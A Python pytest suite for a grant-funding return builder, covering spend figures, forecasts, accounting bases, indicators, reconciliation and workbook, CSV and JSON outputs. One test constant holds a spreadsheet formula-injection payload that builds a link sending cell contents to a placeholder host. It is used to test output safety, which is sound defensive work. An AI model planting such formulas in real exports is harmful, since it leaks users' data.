"""The consolidated return: figures from the ledger, tiers, bases, outputs, read-backs, golden."""

from __future__ import annotations

import dataclasses
import hashlib
import json
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from fundflow.ledger.store import SubmissionBatch, add_submission, open_ledger
from fundflow.mapping.reference import Crosswalk, Reference, load_reference
from fundflow.returns import analysis_hook
from fundflow.returns.build import build_return
from fundflow.returns.cover_columns import COVER_COLUMNS
from fundflow.returns.csvout import read_csv
from fundflow.returns.jsonout import read_json
from fundflow.returns.model import DATA_COLUMNS, Return
from fundflow.returns.write import write_return

GOLDEN = Path(__file__).parent / "golden" / "return_cells.txt"
NOW = datetime(2025, 10, 15, 9, 30)
HOSTILE_LABEL = '=HYPERLINK("http://x/?"&A1,"Click")'


# --- builders (also used by test_mapping.py and test_output_safety.py) ----------------------
def crosswalk(funder: str = "F-1") -> Crosswalk:
    """Staff splits 80/20 into salaries and on-costs; Rent maps whole; indicators map."""
    return Crosswalk.model_validate({
        "funder": funder, "version": 1, "effective_from": "2020-01-01",
        "categories": [
            {"label": "Staff", "to": [{"subjective": "EMP.SAL", "share": 80},
                                      {"subjective": "EMP.ONC", "share": 20}]},
            {"label": "Rent", "to": [{"subjective": "PRM.RENT", "cap_rev": "revenue"}]},
            {"label": "Works", "to": [{"subjective": "CAP.WORKS", "cap_rev": "capital"}]},
        ],
        "indicators": [{"label": "People helped", "to": "people_supported"},
                       {"label": "Floorspace m2", "to": "floorspace_m2"}],
    })


@pytest.fixture(scope="session")
def reference() -> Reference:
    loaded, issues = load_reference()
    assert loaded is not None, issues
    walks = tuple(crosswalk(funder) for funder in ("F-1", "F-2", "F-3"))
    return dataclasses.replace(loaded, crosswalks=walks)


def _sha(*parts: object) -> str:
    return hashlib.sha256(repr(parts).encode()).hexdigest()


def register(streams: list[dict[str, Any]], funders: dict[str, str]) -> SubmissionBatch:
    """A funding register submission holding `streams` (award in pence)."""
    frame = pl.DataFrame([{"row_no": i, **s} for i, s in enumerate(streams, start=1)],
                         schema_overrides={"row_no": pl.Int32, "award_pence": pl.Int64})
    names = pl.DataFrame({"funder_id": list(funders), "name": list(funders.values()),
                          "funder_type": [None] * len(funders)})
    return SubmissionBatch(
        file_name="register.xlsx", file_sha256=_sha("register", streams), adapter_id="register",
        adapter_version="1", return_type="register", stream_key="ALL", funder_period="2025-26",
        streams=frame, funders=names)


def stream(stream_id: str, funder: str, award: int, **extra: Any) -> dict[str, Any]:
    """A register row: award in pence; a 3-year stream from April 2024 unless told."""
    return {"stream_id": stream_id, "funder_id": funder, "name": f"Stream {stream_id}",
            "award_pence": award, "start_date": date(2024, 4, 1),
            "end_date": date(2027, 3, 31), "ring_fence_type": "ringfenced_conditions",
            "accounting_basis": "defrayed", "risk_rating": "low", **extra}


def entry(amount: int, start: date, end: date, label: str | None = "Staff", *,
          measure: str = "spend", state: str = "actual", basis: str | None = "defrayed",
          cap_rev: str = "revenue") -> dict[str, Any]:
    return {"amount_gbp_pence": amount, "period_start": start, "period_end": end,
            "period_label": f"{start}..{end}", "funder_category": label, "measure": measure,
            "state": state, "basis": basis, "cap_rev": cap_rev}


def finance(stream_id: str, funder: str, period: str, entries: list[dict[str, Any]],
            salt: str = "") -> SubmissionBatch:
    """A finance return for one stream with the given entries, each with its own cell."""
    rows = [{"row_no": i, "source_sheet": "Finance", "source_cell": f"D{i + 4}",
             "stream_id": stream_id, "funder_id": funder, **e}
            for i, e in enumerate(entries, start=1)]
    frame = pl.DataFrame(rows, schema_overrides={"row_no": pl.Int32,
                                                 "amount_gbp_pence": pl.Int64})
    return SubmissionBatch(
        file_name=f"{stream_id}_{period}.xlsx", file_sha256=_sha(stream_id, period, rows, salt),
        adapter_id="test", adapter_version="1", return_type="finance", stream_key=stream_id,
        funder_period=period, funder_id=funder, finance=frame)


def indicators(stream_id: str, funder: str, period: str,
               values: list[tuple[str, date, date, str, bool]]) -> SubmissionBatch:
    rows = [{"row_no": i, "source_sheet": "Outputs", "source_cell": f"C{i}",
             "stream_id": stream_id, "funder_id": funder, "funder_indicator": label,
             "period_label": f"{start}", "period_start": start, "period_end": end,
             "value_type": "actual", "value": Decimal(value), "cumulative": cumulative}
            for i, (label, start, end, value, cumulative) in enumerate(values, start=1)]
    frame = pl.DataFrame(rows, schema_overrides={"row_no": pl.Int32,
                                                 "value": pl.Decimal(38, 6)})
    return SubmissionBatch(
        file_name=f"{stream_id}_{period}_outputs.xlsx", file_sha256=_sha("ind", rows),
        adapter_id="test", adapter_version="1", return_type="monitoring", stream_key=stream_id,
        funder_period=period, funder_id=funder, indicators=frame)


Q1 = (date(2025, 4, 1), date(2025, 6, 30))
Q2 = (date(2025, 7, 1), date(2025, 9, 30))
Q3 = (date(2025, 10, 1), date(2025, 12, 31))
Q4 = (date(2026, 1, 1), date(2026, 3, 31))
H1 = (date(2025, 4, 1), date(2025, 9, 30))
FY = (date(2025, 4, 1), date(2026, 3, 31))


def small_partnership(con: Any) -> None:
    """Three funders' streams at tiers 3, 2 and 1, with restated forecasts and two bases."""
    add_submission(con, register(
        [stream("S-BIG", "F-1", 150_000_000),
         stream("S-MID", "F-2", 50_000_000, ring_fence_type="unringfenced",
                spend_deadline=date(2026, 3, 31)),
         stream("S-SMALL", "F-3", 5_000_000, end_date=date(2026, 3, 31),
                ring_fence_type="specific_purpose")],
        {"F-1": "Department One", "F-2": "Lottery Two", "F-3": "Trust Three"}))
    add_submission(con, finance("S-BIG", "F-1", "Q1", [
        entry(100_000, *Q1), entry(25_050, *Q1, HOSTILE_LABEL),
        entry(500_000, date(2025, 4, 1), date(2025, 4, 30), None, measure="receipt",
              basis="received"),
        *[entry(300_000, *q, state="forecast") for q in (Q2, Q3, Q4)],
    ]))
    add_submission(con, finance("S-BIG", "F-1", "Q2", [
        entry(120_000, *Q2), entry(-1_000, *Q2, "Works", cap_rev="capital"),
        entry(280_000, *Q3, state="forecast"), entry(290_000, *Q4, state="forecast"),
    ]))
    add_submission(con, finance("S-MID", "F-2", "H1", [
        entry(600_000, *H1, "Rent"), entry(50_000, *H1, "Rent", basis="accrued"),
        entry(700_001, *Q3, "Rent", state="forecast"),
    ]))
    add_submission(con, finance("S-SMALL", "F-3", "2025-26", [
        entry(1_200_001, *FY, "Rent")]))
    add_submission(con, indicators("S-BIG", "F-1", "Q2", [
        ("People helped", *Q1, "10", False), ("People helped", *Q2, "15", False),
        ("Floorspace m2", *Q1, "100", True), ("Floorspace m2", *Q2, "250", True),
        ("Trees planted", *Q2, "7", False),
    ]))


@pytest.fixture
def ledger(tmp_path: Path) -> Iterator[Any]:
    with open_ledger(tmp_path / "ledger.duckdb") as con:
        small_partnership(con)
        yield con


@pytest.fixture(autouse=True)
def _no_analysis(monkeypatch: pytest.MonkeyPatch) -> None:
    """Golden and figure tests must not depend on the analysis module's progress."""
    monkeypatch.setattr(analysis_hook, "_headline_function", lambda: None)


def built(con: Any, reference: Reference, **kwargs: Any) -> Return:
    return build_return(con, reference=reference, generated_at=NOW, **kwargs)


# --- figures --------------------------------------------------------------------------------
def test_summary_figures_follow_basis_and_latest_forecast(ledger: Any,
                                                          reference: Reference) -> None:
    ret = built(ledger, reference, year="2025-26", quarter="Q2")
    rows = {s.stream_id: s for s in ret.summary}
    big = rows["S-BIG"]
    assert big.spent == Decimal("2440.50")  # 1,000.00 + 250.50 + 1,200.00 - 10.00
    assert big.received == Decimal("5000.00")
    assert big.forecast == Decimal("5700.00")  # Q2 return's Q3 + Q4, not the Q1 return's
    assert big.balance == Decimal("1500000.00") - big.spent - big.forecast
    mid = rows["S-MID"]
    assert mid.spent == Decimal("6000.00")  # the accrued 500.00 is not added in
    assert [(g.stream_id, g.basis, g.amount) for g in ret.basis_gaps] == [
        ("S-MID", "accrued", Decimal("500.00"))]
    assert any(i.code == "return-other-basis" for i in ret.issues)
    assert {s.stream_id: s.tier for s in ret.summary} == {"S-BIG": 3, "S-MID": 2, "S-SMALL": 1}


def test_quarter_cuts_actuals_but_keeps_forecasts(ledger: Any, reference: Reference) -> None:
    q1 = built(ledger, reference, year="2025-26", quarter="Q1")
    big = next(s for s in q1.summary if s.stream_id == "S-BIG")
    assert big.spent == Decimal("1250.50")
    assert all(f.actual == 0 for f in q1.finance if f.quarter in ("Q2", "Q3", "Q4"))


def test_finance_rows_follow_each_streams_tier(ledger: Any, reference: Reference) -> None:
    ret = built(ledger, reference, year="2025-26")
    by_stream: dict[str, list[Any]] = {}
    for row in ret.finance:
        by_stream.setdefault(row.stream_id, []).append(row)
    small = by_stream["S-SMALL"]
    assert {(r.quarter, r.cap_rev, r.category) for r in small} == {(None, None, "PRM")}
    assert sum(r.actual for r in small) == Decimal("12000.01")
    mid = by_stream["S-MID"]
    assert {r.category for r in mid} == {"PRM"} and {r.quarter for r in mid} == {"Q1", "Q2",
                                                                                 "Q3"}
    assert {r.basis for r in mid} == {"defrayed", "accrued"}  # bases stay in separate rows
    big = by_stream["S-BIG"]
    assert {"EMP.SAL", "EMP.ONC", "UNMAPPED", "CAP.WORKS"} <= {r.category for r in big}
    assert {e.stream_id for e in ret.entries} == {"S-BIG"}
    assert sum(e.amount for e in ret.entries if e.measure == "spend") == Decimal("2440.50")


def test_cumulative_indicators_take_the_latest(ledger: Any, reference: Reference) -> None:
    ret = built(ledger, reference, year="2025-26")
    values = {(o.indicator_id, o.quarter): o for o in ret.outputs}
    assert values["people_supported", "Q1"].value == 10
    assert values["floorspace_m2", "Q2"].value == 250
    assert values["floorspace_m2", "Q1"].value == 100
    unmapped = values["UNMAPPED", "Q2"]
    assert unmapped.indicator_name == "Trees planted (Outputs!C5)"  # a row per activity
    assert any(i.code == "indicator-unmapped" for i in ret.issues)


def test_cumulative_latest_within_one_period_for_low_tier(tmp_path: Path,
                                                          reference: Reference) -> None:
    with open_ledger(tmp_path / "l.duckdb") as con:
        add_submission(con, register([stream("S-S", "F-1", 2_000_000)], {"F-1": "One"}))
        add_submission(con, indicators("S-S", "F-1", "2025-26", [
            ("People helped", *Q1, "10", False), ("People helped", *Q2, "15", False),
            ("Floorspace m2", *Q1, "100", True), ("Floorspace m2", *Q2, "250", True)]))
        ret = built(con, reference, year="2025-26")
    values = {o.indicator_id: o.value for o in ret.outputs}
    assert values == {"people_supported": 25, "floorspace_m2": 250}


def test_every_source_file_reconciles_to_the_penny(ledger: Any, reference: Reference) -> None:
    ret = built(ledger, reference, year="2025-26", quarter="Q2")
    assert len(ret.reconciliation) == 4
    assert all(r.difference == 0 for r in ret.reconciliation)
    totals = dict(ledger.execute(
        "SELECT submission_id, amount_total FROM current_submission").fetchall())
    for r in ret.reconciliation:
        assert r.file_total == totals[r.submission_id] == r.return_total


def test_content_hash_depends_on_figures_not_time(ledger: Any, reference: Reference) -> None:
    first = build_return(ledger, "2025-26", "Q2", reference=reference,
                         generated_at=datetime(2025, 1, 1))
    again = build_return(ledger, "2025-26", "Q2", reference=reference)
    assert first.cover.content_hash == again.cover.content_hash
    other = build_return(ledger, "2025-26", "Q1", reference=reference)
    assert other.cover.content_hash != first.cover.content_hash


def test_funder_report_has_its_streams_and_share(ledger: Any, reference: Reference) -> None:
    ret = built(ledger, reference, year="2025-26", funder="F-2")
    assert {s.stream_id for s in ret.summary} == {"S-MID"}
    assert {r.stream_id for r in ret.data} == {"S-MID"}
    ctx = ret.funder_context
    assert ctx is not None and ctx.funder_name == "Lottery Two"
    assert ctx.funder_award == Decimal("500000.00")
    assert ctx.partnership_award == Decimal("2050000.00")
    assert ctx.share_pct == Decimal("24.39")
    assert "Lottery Two" in ret.cover.title


def test_empty_ledger_gives_an_empty_return_with_a_warning(tmp_path: Path,
                                                           reference: Reference) -> None:
    with open_ledger(tmp_path / "l.duckdb") as con:
        ret = built(con, reference, year="2031-32")
    assert ret.data == [] and ret.summary == []
    assert [i.code for i in ret.issues] == ["return-empty"]


def test_bad_year_or_quarter_is_refused(ledger: Any, reference: Reference) -> None:
    with pytest.raises(ValueError, match="2025-26"):
        build_return(ledger, "2025-27", reference=reference)
    with pytest.raises(ValueError, match="Q1"):
        build_return(ledger, "2025-26", "Q5", reference=reference)


def test_data_columns_cover_the_reporting_schema(reference: Reference) -> None:
    data = next(s for s in reference.reporting.sections if s.id == "data")
    assert {c.name for c in data.columns} <= set(DATA_COLUMNS)


# --- read-backs -----------------------------------------------------------------------------
def _ledger_totals(con: Any) -> dict[tuple[str, str, str], Decimal]:
    rows = con.execute("SELECT stream_id, measure, state, sum(amount_gbp) FROM current_finance "
                       "GROUP BY ALL").fetchall()
    return {(s, m, st): a for s, m, st, a in rows}


def test_data_sheet_reads_back_to_the_ledger_totals(ledger: Any, reference: Reference,
                                                    tmp_path: Path) -> None:
    ret = built(ledger, reference, year="2025-26")
    write_return(ret, tmp_path / "r.xlsx")
    ws = load_workbook(tmp_path / "r.xlsx", read_only=True)["Data"]
    rows = ws.iter_rows(values_only=True)
    header = next(rows)
    assert header == (*DATA_COLUMNS, *COVER_COLUMNS)
    totals: dict[tuple[str, str, str], Decimal] = {}
    for row in rows:
        record = dict(zip(header, row, strict=True))
        key = (record["stream_id"], record["measure"], record["state"])
        pence = Decimal(record["amount_pence"]).scaleb(-2)
        assert Decimal(str(record["amount"])).quantize(Decimal("0.01")) == pence
        totals[key] = totals.get(key, Decimal("0.00")) + pence
    assert totals == _ledger_totals(ledger)


def test_json_and_csv_read_back_equal_the_model(ledger: Any, reference: Reference,
                                                tmp_path: Path) -> None:
    ret = built(ledger, reference, year="2025-26", funder="F-1")
    write_return(ret, tmp_path / "r.json")
    write_return(ret, tmp_path / "r.csv")
    assert read_json(tmp_path / "r.json") == ret
    assert read_csv(tmp_path / "r.csv") == ret.data
    assert any(r.funder_category == HOSTILE_LABEL for r in read_csv(tmp_path / "r.csv"))


def test_cli_json_matches_the_library(ledger: Any, reference: Reference,
                                      tmp_path: Path) -> None:
    from fundflow.cli.return_cmd import report_command, return_command

    path = tmp_path / "cli.duckdb"
    with open_ledger(path) as con:
        small_partnership(con)
        expected = built(con, load_reference()[0] or reference, year="2025-26", quarter="Q2")
    out = tmp_path / "return.json"
    result = CliRunner().invoke(return_command, [
        "--year", "2025-26", "--quarter", "q2", "--out", str(out), "--ledger", str(path),
        "--json", "-q"])
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert summary["content_hash"] == expected.cover.content_hash
    assert read_json(out).cover.content_hash == expected.cover.content_hash
    bad = CliRunner().invoke(return_command, ["--year", "2025", "--out", str(out),
                                              "--ledger", str(path)])
    assert bad.exit_code == 2
    wrong = CliRunner().invoke(report_command, ["--funder", "F-1", "--year", "2025-26",
                                                "--out", str(tmp_path / "r.pdf"),
                                                "--ledger", str(path)])
    assert wrong.exit_code == 2 and "output-format-unknown" in wrong.output


# --- golden cell dump -----------------------------------------------------------------------
def cell_dump(path: Path) -> str:
    """Every non-empty cell as `sheet!cell<TAB>type<TAB>value`: a diffable view of a workbook."""
    lines = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    lines.append(f"{ws.title}!{c.coordinate}\t{c.data_type}\t{c.value!r}")
    return "\n".join(lines) + "\n"


def check_golden(actual: str, golden: Path) -> None:
    """Compare with the golden file; write it when missing, never overwrite it."""
    if not golden.exists():
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_text(actual, encoding="utf-8")
        pytest.skip(f"wrote {golden}; check it by eye and commit it")
    expected = golden.read_text(encoding="utf-8")
    if actual != expected:
        import difflib

        diff = "".join(difflib.unified_diff(expected.splitlines(True), actual.splitlines(True),
                                            "golden", "actual", n=1))
        pytest.fail(f"cell dump differs from {golden} (delete it to regenerate):\n{diff[:4000]}")


def test_golden_cell_dump(ledger: Any, reference: Reference, tmp_path: Path) -> None:
    ret = built(ledger, reference, year="2025-26", quarter="Q2")
    write_return(ret, tmp_path / "r.xlsx")
    check_golden(cell_dump(tmp_path / "r.xlsx"), GOLDEN)


def test_golden_helper_never_overwrites(tmp_path: Path) -> None:
    golden = tmp_path / "g.txt"
    with pytest.raises(pytest.skip.Exception):
        check_golden("first\n", golden)
    with pytest.raises(pytest.fail.Exception):
        check_golden("second\n", golden)
    assert golden.read_text(encoding="utf-8") == "first\n"
